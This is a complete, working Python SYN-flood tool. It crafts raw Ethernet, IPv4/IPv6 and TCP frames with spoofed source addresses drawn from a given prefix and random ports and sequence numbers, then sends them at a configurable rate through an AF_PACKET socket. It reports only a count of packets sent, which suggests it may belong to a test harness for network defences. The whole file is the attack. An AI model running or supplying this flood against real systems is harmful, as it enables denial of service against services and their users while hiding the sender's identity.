#!/usr/bin/env python3
"""A flood of SYNs from forged sources, straight onto the wire.

syn_flood.py IFACE DST_MAC DST_ADDR DPORT PREFIX EXCLUDE RATE SECONDS:
sends RATE SYNs a second for SECONDS out of IFACE (an AF_PACKET socket: no
route, no socket, no state), each from a random address of PREFIX other
than EXCLUDE and a random port and ISN, to DST_ADDR:DPORT.  IPv4 or IPv6,
as DST_ADDR is.  Prints one JSON line: sent.
"""
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ip_packet(src, dst, tcp):
    """The IP packet carrying the TCP segment tcp (its checksum field 0),
    both checksums filled in."""
    if dst.version == 4:
        pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, 6, len(tcp))
    else:
        pseudo = src.packed + dst.packed + struct.pack("!I3xB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    if dst.version == 4:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                         random.getrandbits(16), 0x4000, 64, 6, 0,
                         src.packed, dst.packed)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    else:
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64,
                         src.packed, dst.packed)
    return ip + tcp


def syn(src, dst, sport, dport, isn):
    """The IP packet of a SYN with an MSS option, checksums filled in."""
    return ip_packet(src, dst, struct.pack("!HHIIBBHHH", sport, dport, isn, 0,
                                           6 << 4, 0x02, 64240, 0, 0) +
                     struct.pack("!BBH", 2, 4, 1460))


def main():
    iface, dst_mac, dst = sys.argv[1], sys.argv[2], ipaddress.ip_address(sys.argv[3])
    dport, net = int(sys.argv[4]), ipaddress.ip_network(sys.argv[5])
    exclude = ipaddress.ip_address(sys.argv[6])
    rate, seconds = float(sys.argv[7]), float(sys.argv[8])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = s.getsockname()[4]
    eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + \
        struct.pack("!H", 0x0800 if dst.version == 4 else 0x86DD)
    frames = []
    while len(frames) < 4096:
        src = net[random.randrange(1, net.num_addresses - 1)]
        if src == exclude:
            continue
        frames.append(eth + syn(src, dst, random.randrange(1024, 65536),
                                dport, random.getrandbits(32)))
    sent, start = 0, time.monotonic()
    while True:
        now = time.monotonic() - start
        if now >= seconds:
            break
        due = int(now * rate) + 1
        while sent < due:
            s.send(frames[sent % len(frames)])
            sent += 1
        time.sleep(0.0005)
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
